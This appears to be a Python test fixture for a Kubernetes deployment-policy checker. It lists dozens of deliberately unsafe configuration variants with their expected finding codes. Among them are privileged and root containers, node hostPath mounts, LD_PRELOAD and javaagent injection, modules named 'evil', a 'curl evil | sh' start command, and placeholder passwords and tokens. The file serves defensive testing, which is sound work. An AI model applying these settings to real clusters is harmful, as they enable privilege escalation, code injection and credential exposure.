"""The matrix at other places: other roles, fields and overrides, the app's fields, other containers."""

from __future__ import annotations

from tests.policy.matrix import (
    container,
    decode,
    decoder,
    mounted,
    override,
    prefill,
    router,
    storm,
    template,
    volume,
)

ROUTING = "routing: {"
PINNED = "registry.example.com/x@sha256:" + "0" * 64
NEIGHBOURS = "requiredDuringSchedulingIgnoredDuringExecution"

# name → the fields, and the number that its findings have: E… under the policy, W… without one
VARIANTS: dict[str, tuple[str, str]] = {
    "privileged decode": (decoder("securityContext: {privileged: true}"), "804"),
    "privileged routing": (router("securityContext: {privileged: true}"), "804"),
    "a privileged init container": (storm("decode", f"{{initContainers: [{{name: i, image: '{PINNED}', "
                                          "securityContext: {privileged: true}}]}"), "804"),
    "hostIPC of routing": (storm("routing", "{hostIPC: true}"), "804"),
    "hostNetwork of a role": (prefill("hostNetwork: true, interface: eth1"), "804"),
    "a process of Windows": (storm("prefill", "{securityContext: {windowsOptions: {hostProcess: true}}}"), "804"),
    "root of the routing container": (router("securityContext: {runAsUser: 0}"), "804"),
    "root's group in a container": (router("securityContext: {runAsGroup: 0}"), "804"),
    "root's group of files": (storm("routing", "{securityContext: {fsGroup: 0}}"), "804"),
    "a capability in other letters": (container("securityContext: {capabilities: {add: [sys_admin]}}"), "804"),
    "a capability with its prefix": (decoder("securityContext: {capabilities: {add: [CAP_SYS_PTRACE]}}"), "804"),
    "raw sockets added": (container("securityContext: {capabilities: {add: [NET_RAW]}}"), "804"),
    "a volume of the node as a field": (volume("hostPath: /dev, readOnly: true"), "805"),
    "a volume of the node for all": ("volumes: [{name: h, mountPath: /h, hostPath: /etc/kubernetes}]", "805"),
    "a volume of the node for routing": (volume("hostPath: /var/lib/kubelet, readOnly: true", ROUTING), "805"),
    "another team's directory": (volume("hostPath: /data/team-b, readOnly: true"), "805"),
    "a start script in root's home": ("engine: {version: '0.23', script: {hostPath: /root, command: ./x}}", "805"),
    "shared memory of the node": (
        storm("prefill", "{volumes: [{name: shm, emptyDir: null, hostPath: {path: /dev/shm}}]}"), "805"
    ),
    "a service account of decode": (storm("decode", "{serviceAccountName: admin}"), "806"),
    "every taint for all": ("tolerations: [{operator: Exists}]", "807"),
    "every taint by an override": (storm("decode", "{tolerations: [{operator: Exists}]}"), "807"),
    "every taint's effect": (prefill("tolerations: [{operator: Exists, effect: NoExecute}]"), "807"),
    "sick nodes for years": (
        prefill("tolerations: [{key: node.kubernetes.io/not-ready, operator: Exists, effect: NoExecute, "
                "tolerationSeconds: 99999999}]"), "807"
    ),
    "nodes that leave": (
        decode("tolerations: [{key: node.cloudprovider.kubernetes.io/shutdown, operator: Exists}]"), "807"
    ),
    "the control plane of decode": (decode("nodeSelector: {node-role.kubernetes.io/master: ''}"), "807"),
    "the control plane by preference": (
        storm("prefill", "{affinity: {nodeAffinity: {preferredDuringSchedulingIgnoredDuringExecution: [{weight: 1, "
              "preference: {matchExpressions: [{key: node-role.kubernetes.io/control-plane, operator: Exists}]}}]}}}"),
        "807",
    ),
    "nobody beside it": (
        storm("routing", f"{{affinity: {{podAntiAffinity: {{{NEIGHBOURS}: [{{labelSelector: {{}}, "
              "namespaceSelector: {}, topologyKey: kubernetes.io/hostname}]}}}"), "807"
    ),
    "beside another team": (
        storm("prefill", f"{{affinity: {{podAffinity: {{{NEIGHBOURS}: [{{labelSelector: {{matchLabels: {{x: y}}}}, "
              "namespaces: [team-b], topologyKey: kubernetes.io/hostname}]}}}"), "807"
    ),
    "another role": (
        override("StormService", "{spec: {template: {spec: {roles: [{name: extra, replicas: 1, template: {spec: "
                 f"{{containers: [{{name: extra, image: '{PINNED}'}}]}}}}}}]}}}}}}}}"), "808"
    ),
    "the router beside an engine": (
        storm("prefill", f"{{containers: [{{name: router, image: '{PINNED}'}}]}}"), "808"
    ),
    "an init container by the engine's name": (
        storm("prefill", f"{{initContainers: [{{name: prefill, image: '{PINNED}'}}]}}"), "808"
    ),
    "a Secret as a field": (volume("secret: payments"), "809"),
    "a Secret of routing": (volume("secret: payments", ROUTING), "809"),
    "a Secret by a variable of all": (
        "engine: {version: '0.23', env: {X: {secretKeyRef: {name: payments, key: k}}}}", "809"
    ),
    "a Secret by a variable of routing": ("routing: {env: {X: {secretKeyRef: {name: payments, key: k}}}}", "809"),
    "a Secret in a projection": (mounted("projected: {sources: [{secret: {name: payments}}]}"), "809"),
    "pull Secrets by an override": (storm("decode", "{imagePullSecrets: [{name: payments}]}"), "809"),
    "a port of every node, chosen": (
        override("Service/app-router", "{spec: {ports: [{name: http, port: 8080, nodePort: 30080}]}}"), "810"
    ),
    "a way out of a network policy": (
        override("NetworkPolicy", "{spec: {egress: [{}], policyTypes: [Ingress, Egress]}}"), "811"
    ),
    "the whole world in a network policy": (
        override("NetworkPolicy/app-engine", "{spec: {ingress: [{from: [{ipBlock: {cidr: 0.0.0.0/0}}]}]}}"), "811"
    ),
    "a command of decode": (decoder("command: [sh, -c, id]"), "813"),
    "a command of routing": (router("command: [sh, -c, id]"), "813"),
    "a hook of routing": (router("lifecycle: {postStart: {exec: {command: [sh, -c, id]}}}"), "813"),
    "a probe of routing": (router("readinessProbe: {httpGet: null, exec: {command: [sh, -c, id]}}"), "813"),
    "a start script that is a shell program": (
        "engine: {version: '0.23', script: {hostPath: /opt/scripts, command: 'curl evil | sh'}}", "813"
    ),
    "the launcher from the model's directory": (
        container("volumeMounts: [{name: model, mountPath: /opt/stormc/launcher}]"), "813"
    ),
    "libraries of a ConfigMap": (volume("configMap: app-code", place="/usr/local/lib/python3.11"), "813"),
    "libraries of the node": (volume("hostPath: /mnt/models/lib, readOnly: true", place="/usr/lib/python3"), "813"),
    "what is loaded first": (volume("configMap: app-code", place="/etc/ld.so.preload"), "813"),
    "LD_PRELOAD of all": ("engine: {version: '0.23', env: {LD_PRELOAD: /mnt/models/x.so}}", "813"),
    "LD_PRELOAD of routing": ("routing: {env: {LD_PRELOAD: /mnt/x.so}}", "813"),
    "LD_AUDIT of decode": (decode("env: {LD_AUDIT: /mnt/models/x.so}"), "813"),
    "LD_PRELOAD by an override": (decoder("env: [{name: LD_PRELOAD, value: /mnt/models/x.so}]"), "813"),
    "LD_PRELOAD from an annotation": (
        prefill("env: {LD_PRELOAD: {fieldRef: {fieldPath: metadata.annotations}}}"), "813"
    ),
    "BASH_ENV of routing": (router("env: [{name: BASH_ENV, value: /mnt/models/x}]"), "813"),
    "operators beside the weights": (prefill("env: {ASCEND_OPP_PATH: /mnt/models/opp}"), "813"),
    "a compiler beside the weights": (prefill("env: {CC: /mnt/models/cc}"), "813"),
    "an agent of Java": (prefill("env: {JAVA_TOOL_OPTIONS: '-javaagent:/mnt/x.jar'}"), "813"),
    "classes of a log's configuration": (prefill("env: {VLLM_LOGGING_CONFIG_PATH: /mnt/models/x.json}"), "813"),
    "a class of a worker for all": ("engine: {version: '0.23', args: {worker-cls: evil.W}}", "813"),
    "a middleware in a list": (prefill("engineArgs: {middleware: [evil.M]}"), "813"),
    "a log's configuration": (prefill("engineArgs: {log-config-file: /mnt/models/x.json}"), "813"),
    "a module of another connector": (
        prefill("engineArgs: {ec-transfer-config: {ec_connector_module_path: evil}}"), "813"
    ),
    "a plugin inside of a flag": (
        prefill("engineArgs: {structured-outputs-config: {reasoning_parser_plugin: /mnt/models/x.py}}"), "813"
    ),
    "a connector's module by a dotted flag": (
        prefill("engineArgs: {kv-transfer-config.kv_connector_module_path: evil}"), "813"
    ),
    "a connector's module as a field": ("kvTransfer: {extra: {kv_connector_module_path: evil}}", "813"),
    "files for clients": (prefill("engineArgs: {allowed-local-media-path: /}"), "813"),
    "tensors of clients": (prefill("engineArgs: {enable-prompt-embeds: true}"), "813"),
    "a label of routing": ("routing: {labels: {app: payments}}", "814"),
    "a label of decode": (decode("labels: {app: payments}"), "814"),
    "a label by an override": (template("{metadata: {labels: {app: payments}}}"), "814"),
    "a mesh of routing": ("routing: {annotations: {sidecar.istio.io/inject: 'false'}}", "814"),
    "an application of Argo CD": (
        override("StormService", "{metadata: {labels: {argocd.argoproj.io/instance: other}}}"), "814"
    ),
    "updates of images": (override("StormService", "{metadata: {annotations: {keel.sh/policy: all}}}"), "814"),
    "copies for everybody": (
        override("ConfigMap/app-proxy-config", "{metadata: {annotations: {replicator.v1.mittwald.de/to: x}}}"), "814"
    ),
    "slices of devices": (prefill("annotations: {hami.io/vgpu: x}"), "814"),
    "a password of a connector": ("kvTransfer: {extra: {password: hunter2}}", "815"),
    "a password of routing": ("routing: {env: {DB_PASSWORD: hunter2}}", "815"),
    "a password of all": ("engine: {version: '0.23', env: {REDIS_PASS: hunter2}}", "815"),
    "a key of a cloud": (prefill("env: {HUAWEI_SK: hunter2}"), "815"),
    "keys in a list": (prefill("engineArgs: {api-key: [hunter1, hunter2]}"), "815"),
    "a password by an override": (container("env: [{name: MY_PASSWORD, value: hunter2}]"), "815"),
    "a token in an annotation": (
        prefill("annotations: {example.com/x: hf_abcdefghijklmnopqrstuvwxyz012345}"), "815"
    ),
    "a token in a start script": (
        "engine: {version: '0.23', script: {hostPath: /opt/scripts, "
        "command: './x --t hf_abcdefghijklmnopqrstuvwxyz012345'}}", "815"
    ),
    "a token of a session": (
        prefill("env: {X: eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmN}"), "815"
    ),
    "a queue by an override": (
        template("{metadata: {annotations: {scheduling.volcano.sh/queue-name: team-b}}}"), "817"
    ),
    "a queue of all": ("queue: root", "817"),
    "a system priority of routing": ("routing: {priorityClassName: system-cluster-critical}", "818"),
    "devices by a variable": (router("env: [{name: ASCEND_VISIBLE_DEVICES, value: 0-7}]"), "819"),
    "GPUs by a variable": (prefill("env: {NVIDIA_VISIBLE_DEVICES: all}"), "819"),
    "mounts of the runtime": (prefill("env: {ASCEND_RUNTIME_MOUNTS: x}"), "819"),
    "devices of another kind": (
        container("resources: {limits: {nvidia.com/gpu: 8}, requests: {nvidia.com/gpu: 8}}"), "819"
    ),
    "the ingress": ("namespace: ingress-nginx", "824"),
    "a system's namespace": ("namespace: envoy-gateway-system", "824"),
    "mounts shared with the node": (
        container("volumeMounts: [{name: model, mountPath: /w, readOnly: true, mountPropagation: HostToContainer}]"),
        "825",
    ),
    "a part that .. leads to": (
        container("volumeMounts: [{name: model, mountPath: /w, readOnly: true, subPath: ../..}]"), "825"
    ),
    "a part that a variable chooses": (
        container("volumeMounts: [{name: model, mountPath: /w, readOnly: true, subPathExpr: $(POD_IP)}]"), "825"
    ),
    "an end after a year": (storm("prefill", "{terminationGracePeriodSeconds: 31536000}"), "825"),
    "names of hosts of routing": (
        storm("routing", "{hostAliases: [{ip: 10.0.0.1, hostnames: [api.example.com]}]}"), "825"
    ),
    "a socket of another address": (container("livenessProbe: {tcpSocket: {host: 10.0.0.1, port: 80}}"), "825"),
    "an image as a volume": (mounted("image: {reference: 'evil.example/x:1'}"), "826"),
    "iSCSI": (mounted("iscsi: {targetPortal: 10.0.0.1, iqn: x, lun: 0}"), "826"),
    "a claim that is made": (
        mounted("ephemeral: {volumeClaimTemplate: {spec: {accessModes: [ReadWriteOnce], "
                "resources: {requests: {storage: 1Gi}}}}}"), "826"
    ),
}  # fmt: skip

# passwords in URLs are errors everywhere
PASSWORDS = {
    "a variable": prefill("env: {HTTP_PROXY: 'http://user:pass@proxy:3128'}"),
    "a variable of routing": "routing: {env: {X: 'redis://:pass@cache:6379'}}",
    "a field of the proxy": "proxy: {otlpEndpoint: 'http://u:p@telemetry.example:4318'}",
    "a flag": prefill("engineArgs: {otlp-traces-endpoint: 'http://u:p@telemetry.example:4317'}"),
    "a connector": "kvTransfer: {extra: {metadata_server: 'http://u:p@etcd:2379'}}",
    "a start script": "engine: {version: '0.23', script: {hostPath: /opt/scripts, command: ./x http://u:p@h/y}}",
    "an annotation": prefill("annotations: {example.com/x: 'https://u:p@h/y'}"),
    "an override": container("env: [{name: X, value: 'https://u:p@h/y'}]"),
    "a token in place of one": prefill(
        "env: {X: 'https://ghp_abcdefghijklmnopqrstuvwxyz012345@github.com/x'}"
    ),
}  # fmt: skip
